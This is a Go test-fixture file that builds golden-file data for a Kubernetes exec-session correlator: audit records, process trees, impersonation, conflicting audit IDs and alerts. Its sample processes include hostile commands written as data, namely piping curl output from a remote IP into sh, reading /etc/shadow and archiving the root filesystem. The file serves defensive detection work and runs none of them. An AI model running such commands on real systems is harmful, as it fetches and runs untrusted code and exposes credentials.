package render

import (
	"encoding/json"
	"time"

	"github.com/execid/correlator/pkg/api"
	"github.com/execid/correlator/pkg/auditlog"
	"github.com/execid/correlator/pkg/capture"
	"github.com/execid/correlator/pkg/cluster"
	"github.com/execid/correlator/pkg/join"
	"github.com/execid/correlator/pkg/store"
	"github.com/execid/correlator/pkg/vocab"
)

// The answers the golden files render, built from the real types.

// t0 is when alice opened her session.
func t0() time.Time { return time.Date(2026, 3, 4, 10, 0, 0, 0, time.UTC) }

const (
	idAlice = "0b7e9a52-1c2d-4e3f-8a9b-0c1d2e3f4a01"
	idBob   = "c3e1d7a9-2f4b-4c8d-a6e5-3b7f9d1c2e04"
)

func aliceSession() join.Session {
	return join.Session{ExecRecord: auditlog.ExecRecord{AuditID: idAlice, Verb: "create", Subresource: "exec",
		User:      auditlog.UserInfo{Username: "alice", UID: "u-1", Groups: []string{"sre", "system:authenticated"}},
		SourceIPs: []string{"203.0.113.7"}, UserAgent: "kubectl/v1.35.0", Namespace: "shop", Pod: "web-0",
		Container: "app", Command: []string{"sh", "-c", "curl -s http://203.0.113.50/x | sh; echo a long tail to cut at sixty"},
		Code: 101, Decision: "allow", RequestReceivedTimestamp: t0(), EndTimestamp: t0().Add(time.Minute)},
		SPOExecRequestUID: "spo-7", ProcessCount: 4}
}

// bobSession impersonates a service account and shares its ID with
// another request.
func bobSession() join.Session {
	return join.Session{ExecRecord: auditlog.ExecRecord{AuditID: idBob, Verb: "create", Subresource: "exec",
		User:             auditlog.UserInfo{Username: "bob"},
		ImpersonatedUser: &auditlog.UserInfo{Username: "system:serviceaccount:shop:deployer", Groups: []string{"deployers"}},
		Namespace:        "shop", Pod: "web-1", Command: []string{"bash"}, Code: 101,
		RequestReceivedTimestamp: t0().Add(-time.Hour), Flags: []string{vocab.FlagAuditIDConflict},
		Env: []string{"TERM=xterm"}},
		Conflicts: []auditlog.ExecRecord{{AuditID: idBob, User: auditlog.UserInfo{Username: "mallory"}, Namespace: "shop",
			Pod: "web-1", Command: []string{"sh"}, Code: 403, SourceIPs: []string{"198.51.100.9"},
			RequestReceivedTimestamp: t0().Add(-time.Hour + time.Second)}},
		ProcessCount: 1}
}

// aliceProcesses are a nested tree: sh, its children cat and sh, and
// that sh's child curl with a cut argv; then an exec whose fork was not
// seen.
func aliceProcesses() []join.Process {
	zero, one := 0, 1
	return []join.Process{
		{Exec: capture.Exec{ProcessID: "10-1", PID: 10, Argv: []string{"sh", "-c", "curl -s http://203.0.113.50/x | sh"}},
			Namespace: "shop", Pod: "web-0", Container: "app", Start: t0(), AuditID: idAlice,
			Attribution: vocab.AttributionAuditID, Source: vocab.SourceEnv, Flags: []string{}},
		{Exec: capture.Exec{ProcessID: "11-1", ParentProcessID: "10-1", PID: 11, Argv: []string{"cat", "/etc/shadow"}},
			Namespace: "shop", Pod: "web-0", Container: "app", Start: t0().Add(time.Second), AuditID: idAlice,
			Attribution: vocab.AttributionInherited, Source: vocab.SourceInherited, Flags: []string{vocab.FlagEnvRemoved},
			Exit: t0().Add(2 * time.Second), ExitCode: &zero},
		{Exec: capture.Exec{ProcessID: "12-1", ParentProcessID: "10-1", PID: 12, Argv: []string{"sh"}},
			Namespace: "shop", Pod: "web-0", Container: "app", Start: t0().Add(3 * time.Second), AuditID: idAlice,
			Attribution: vocab.AttributionInherited, Source: vocab.SourceInherited, Flags: []string{}},
		{Exec: capture.Exec{ProcessID: "13-1", ParentProcessID: "12-1", PID: 13, ArgvTruncated: true,
			Argv: []string{"curl", "-s", "-H", "X-Token: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "http://203.0.113.50/x"}},
			Namespace: "shop", Pod: "web-0", Container: "app", ExecTime: t0().Add(4 * time.Second), AuditID: idAlice,
			Attribution: vocab.AttributionInherited, Source: vocab.SourceInherited,
			Flags: []string{vocab.FlagArgvTruncated}, Exit: t0().Add(5 * time.Second), ExitCode: &one},
	}
}

// aliceView is alice's session with its tree, a forged claimant, an
// ambiguous process and a cut process list.
func aliceView() api.SessionView {
	ps := aliceProcesses()
	ps = append(ps, join.Process{Exec: capture.Exec{ProcessID: "20-1", PID: 20, Argv: []string{"id"}},
		Namespace: "shop", Pod: "web-0", Start: t0().Add(6 * time.Second), Attribution: vocab.AttributionAmbiguous,
		Candidates: []string{idAlice, idBob}, Flags: []string{}})
	d := store.SessionDetail{Session: aliceSession(), Processes: ps, ProcessesTruncated: true,
		Claimants: []join.Process{{Exec: capture.Exec{ProcessID: "30-1", PID: 30, Argv: []string{"tar", "c", "/"},
			ArgvTruncated: true}, Namespace: "shop", Pod: "web-0", ExecTime: t0().Add(7 * time.Second),
			ClaimedAuditID: idAlice, Flags: []string{vocab.FlagRootUnverified}}}}
	d.Processes[3].ClaimedAuditID = "forged-id"
	return api.SessionView{SessionDetail: d, Tree: api.BuildTree(d.Processes)}
}

func bobView() api.SessionView {
	d := store.SessionDetail{Session: bobSession(), Processes: []join.Process{{Exec: capture.Exec{ProcessID: "40-1",
		PID: 40, Argv: []string{"bash"}}, Namespace: "shop", Pod: "web-1", Start: t0().Add(-time.Hour),
		AuditID: idBob, Attribution: vocab.AttributionAuditID, Flags: []string{}}}}
	return api.SessionView{SessionDetail: d, Tree: api.BuildTree(d.Processes)}
}

func sessionPage() api.SessionPage {
	return api.SessionPage{Items: []join.Session{aliceSession(), bobSession()}, NextCursor: "c1"}
}

func processPage() api.ProcessPage {
	return api.ProcessPage{Items: aliceProcesses(), NextCursor: "c2"}
}

// nodeB is a node that did not answer.
func nodeB() cluster.Failure {
	return cluster.Failure{Node: "node-b", Pod: "correlator-x7k2p", Error: "agent answered 503 Service Unavailable"}
}

// clusterSessions is a partial, truncated answer.
func clusterSessions() cluster.Answer[cluster.Session] {
	return cluster.Answer[cluster.Session]{Items: []cluster.Session{
		{Nodes: []string{"node-a"}, Session: aliceSession()},
		{Nodes: []string{"node-a", "node-c"}, Session: bobSession()},
	}, Partial: true, Unreachable: []cluster.Failure{nodeB()}, Nodes: 3, Truncated: true}
}

func who(node string) cluster.WhoAnswer {
	a := cluster.WhoAnswer{Namespace: "shop", Pod: "web-0", Node: node}
	a.Items = []cluster.Session{{Nodes: []string{"node-a"}, Session: aliceSession(), Processes: aliceProcesses()}}
	a.Nodes = 1
	return a
}

func whoIn() cluster.WhoInAnswer {
	a := cluster.WhoInAnswer{Selection: cluster.Selection{Selector: "app=web", Namespace: "shop",
		Pods: []cluster.PodRef{{Namespace: "shop", Name: "web-0", Node: "node-a"}, {Namespace: "shop", Name: "web-9"}}},
		Skipped: []cluster.PodRef{{Namespace: "shop", Name: "web-9"}}}
	a.Items = []cluster.Session{{Nodes: []string{"node-a"}, Session: aliceSession(), Processes: aliceProcesses()}}
	a.Nodes = 1
	return a
}

func sessionViews() cluster.Answer[cluster.SessionView] {
	return cluster.Answer[cluster.SessionView]{Items: []cluster.SessionView{
		{Nodes: []string{"node-a"}, SessionView: aliceView()},
		{Nodes: []string{"node-b"}, SessionView: bobView()},
	}, Nodes: 2}
}

func alerts() cluster.Answer[cluster.Alert] {
	payload, _ := json.Marshal(map[string]any{"session": map[string]any{"namespace": "shop", "pod": "web-0"}})
	return cluster.Answer[cluster.Alert]{Items: []cluster.Alert{
		{Nodes: []string{"node-a"}, Alert: store.Alert{ID: "al-1", Time: t0().Add(time.Minute), Rule: "audit-id-reused",
			Severity: "critical", AuditID: idAlice, Payload: payload,
			Message: "audit ID " + idAlice + " used by alice (shop/web-0/app, /api/v1/namespaces/shop/pods/web-0/exec) and again"}},
		{Nodes: []string{}, Alert: store.Alert{ID: "al-2", Time: t0(), Rule: "shell-in-container", Message: "sh in shop/web-1"}},
	}, Nodes: 2, Truncated: true}
}

// pendingProcesses are a root that carried alice's ID and waits for its
// record, an ID-less root that waits for its pod's exec records (the
// later deadline), and an unattributed process whose wait is over.
func pendingProcesses() []join.Process {
	return []join.Process{
		{Exec: capture.Exec{ProcessID: "50-1", PID: 50, Argv: []string{"sh"}}, Namespace: "shop", Pod: "web-0",
			Start: t0().Add(8 * time.Second), ClaimedAuditID: idAlice, Flags: []string{},
			Pending: true, PendingUntil: t0().Add(5*time.Minute + 8*time.Second)},
		{Exec: capture.Exec{ProcessID: "51-1", PID: 51, Argv: []string{"bash"}}, Namespace: "shop", Pod: "web-1",
			Start: t0().Add(9 * time.Second), Flags: []string{},
			Pending: true, PendingUntil: t0().Add(69 * time.Second)},
		{Exec: capture.Exec{ProcessID: "52-1", PID: 52, Argv: []string{"nginx"}}, Namespace: "shop", Pod: "web-1",
			Start: t0().Add(-time.Hour), Flags: []string{}},
	}
}

// pendingView is bob's session with a claimant still waiting.
func pendingView() api.SessionView {
	v := bobView()
	v.Claimants = pendingProcesses()[:1]
	v.Claimants[0].ClaimedAuditID = idBob
	return v
}
